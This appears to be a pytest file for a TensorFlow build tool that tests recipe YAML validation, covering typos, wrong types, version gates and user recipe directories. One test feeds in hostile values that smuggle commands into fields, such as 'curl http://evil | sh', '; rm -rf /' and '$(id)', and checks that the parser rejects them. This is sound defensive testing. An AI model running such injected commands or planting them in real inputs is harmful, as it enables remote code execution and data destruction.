"""Recipes: the schema, the version gates, hostile values, and user recipe directories."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import ROOT, one_error_line, run_cli
from tfbuild.core.errors import InputError, UsageError
from tfbuild.recipes.recipe import load_recipes, parse_recipe

MODEL = (ROOT / "recipes" / "tf-2.21.yaml").read_text()


def _variant(text: str, old: str, new: str) -> str:
    assert old in text, old
    return text.replace(old, new, 1)


def _line_of(text: str, fragment: str) -> int:
    return text[: text.index(fragment)].count("\n") + 1


def test_every_shipped_recipe_loads_and_covers_2_13_to_2_21() -> None:
    recipes = load_recipes()
    shorts = {r.short for r in recipes.recipes}
    assert {"2.21"} <= shorts
    for recipe in recipes.recipes:
        assert recipe.path == f"recipes/tf-{recipe.short}.yaml"


def test_typo_key_names_file_line_and_suggestion() -> None:
    text = _variant(MODEL, "python:", "pyton:")
    with pytest.raises(InputError) as caught:
        parse_recipe(text, path="recipes/x.yaml")
    line = _line_of(text, "pyton:")
    assert caught.value.line().startswith(
        f"unknown key 'pyton' at recipes/x.yaml:{line}, did you mean 'python'?"
    )


def test_nested_typo_key() -> None:
    text = _variant(MODEL, "  sha256:", "  sha265:")
    with pytest.raises(
        InputError, match=r"unknown key 'source.sha265' .* did you mean 'source.sha256'"
    ):
        parse_recipe(text, path="r.yaml")


@pytest.mark.parametrize(
    ("old", "new", "fragment"),
    [
        ('python: ["3.10", "3.11", "3.12", "3.13"]', "python: 3.11", "'python' must be a list"),
        ("bazel: 7.4.1", "bazel: seven", "'bazel' is 'seven'; expected a version X.Y.Z"),
        (
            "  flow: wheel",
            "  flow: whl",
            "'wheel.flow' is 'whl'; expected build_pip_package or wheel",
        ),
        ("  hermetic_python: true", "  hermetic_python: yes please", "expected true or false"),
        ("compiler: clang-18.1.8", "compiler: msvc-19", "expected gcc-N[.N[.N]] or clang-N"),
        ("  hermetic: true", "  hermetic: [true]", "must be a single value"),
    ],
)
def test_wrong_types_name_the_line_and_the_allowed_values(
    old: str, new: str, fragment: str
) -> None:
    text = _variant(MODEL, old, new)
    with pytest.raises(InputError) as caught:
        parse_recipe(text, path="recipes/x.yaml")
    message = caught.value.line()
    assert f"recipes/x.yaml:{_line_of(text, new)}" in message
    assert fragment in message


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("  tag: v2.21.0", '  tag: "v2.21.0\\nRUN curl http://evil | sh"'),
        ("  tag: v2.21.0", '  tag: "$(curl evil)"'),
        (
            "  tarball: https://github.com/tensorflow/tensorflow/archive/refs/tags/v2.21.0.tar.gz",
            '  tarball: "https://example.org/x.tgz; rm -rf /"',
        ),
        ("copts: []", 'copts: ["-O2 $(id)"]'),
        ("copts: []", 'copts: ["-Wno-x\'"]'),
        ("defines: []", 'defines: ["a=b\\nRUN x"]'),
        ("base_image: ubuntu-24.04", 'base_image: "ubuntu`id`"'),
        (
            "  capabilities: [sm_60, sm_70, sm_80, sm_89, compute_90]",
            '  capabilities: ["sm_90 && x"]',
        ),
    ],
)
def test_hostile_values_are_rejected(old: str, new: str) -> None:
    with pytest.raises(InputError, match="expected"):
        parse_recipe(_variant(MODEL, old, new), path="r.yaml")


@pytest.mark.parametrize(
    ("edits", "fragment"),
    [
        (
            [("tensorflow: 2.21.0", "tensorflow: 2.16.1"), ("pywrap_rules: true", "pywrap_rules: false")],
            "builds its wheel with 'build_pip_package'",
        ),
        (
            [("tensorflow: 2.21.0", "tensorflow: 2.15.1"), ("  flow: wheel", "  flow: build_pip_package"),
             ("pywrap_rules: true", "pywrap_rules: false"), ("compiler: clang-18.1.8", "compiler: clang-16.0.0")],
            "Python 3.12, 3.13 is outside what TensorFlow 2.15 supports (3.9 to 3.11)",
        ),
        (
            [("tensorflow: 2.21.0", "tensorflow: 2.17.0"), ("pywrap_rules: true", "pywrap_rules: false"),
             ('"3.13"]', '"3.12"]'), ("compiler: clang-18.1.8", "compiler: clang-17.0.6")],
            "cuda.hermetic is false for TensorFlow 2.17",
        ),
        ([("  cuda: 12.5.1", "  cuda: 12.5")], "full x.y.z keys"),
        ([("compiler: clang-18.1.8", "compiler: clang-15")], "needs Clang 16 or newer"),
        ([("compiler: clang-18.1.8", "compiler: gcc-11")], "needs GCC 12 or newer"),
    ],
)  # fmt: skip
def test_version_gates_refuse_impossible_recipes(
    edits: list[tuple[str, str]], fragment: str
) -> None:
    text = MODEL
    for old, new in edits:
        text = _variant(text, old, new)
    with pytest.raises(InputError) as caught:
        parse_recipe(text, path="recipes/x.yaml")
    assert fragment in caught.value.line()
    assert "recipes/x.yaml:" in caught.value.line()


def test_not_yaml_names_the_line() -> None:
    with pytest.raises(InputError, match=r"r.yaml:4: it is not valid YAML"):
        parse_recipe("tensorflow: 2.21.0\nsource:\n  git: [unclosed\n", path="r.yaml")


def test_user_directory_adds_and_overrides(tmp_path: Path) -> None:
    assert "\nnotes:" not in MODEL
    override = MODEL + "notes: mine\n"
    (tmp_path / "tf-2.21.yaml").write_text(override)
    newer = _variant(MODEL, "tensorflow: 2.21.0", "tensorflow: 2.99.0")
    (tmp_path / "tf-2.99.yaml").write_text(newer)
    recipes = load_recipes([tmp_path])
    assert recipes.get("2.21").path == str(tmp_path / "tf-2.21.yaml")
    assert recipes.get("2.99.0").tensorflow == "2.99.0"
    assert recipes.get("2.21").notes == "mine"


def test_environment_variable_names_a_recipes_dir(tmp_path: Path) -> None:
    (tmp_path / "tf-2.99.yaml").write_text(
        _variant(MODEL, "tensorflow: 2.21.0", "tensorflow: 2.99.0")
    )
    result = run_cli("recipes", "--json", env={"TFBUILD_RECIPES_DIR": str(tmp_path)})
    assert result.returncode == 0, result.stderr
    versions = [r["tensorflow"] for r in result.json()["recipes"]]
    assert "2.99.0" in versions
    assert versions == sorted(versions, key=lambda v: tuple(int(p) for p in v.split(".")))


def test_a_broken_user_recipe_is_one_line_with_exit_3(tmp_path: Path) -> None:
    (tmp_path / "tf-2.99.yaml").write_text(_variant(MODEL, "python:", "pyton:"))
    result = run_cli("recipes", "--recipes-dir", str(tmp_path))
    one_error_line(result, 3, "unknown key 'pyton' at ", "did you mean 'python'?")


def test_version_lookup() -> None:
    recipes = load_recipes()
    assert recipes.get("2.21").tensorflow == recipes.get("2.21.0").tensorflow == "2.21.0"
    assert recipes.get("v2.21.0").tensorflow == "2.21.0"
    with pytest.raises(UsageError, match=r"no recipe for TensorFlow 1\.15"):
        recipes.get("1.15")
    with pytest.raises(UsageError, match="not a TensorFlow version"):
        recipes.get("latest")


def test_recipes_show_prints_one_resolved() -> None:
    result = run_cli("recipes", "show", "2.21")
    assert result.returncode == 0, result.stderr
    data = result.json()
    assert data["tensorflow"] == "2.21.0"
    assert data["wheel"]["flow"] == "wheel"
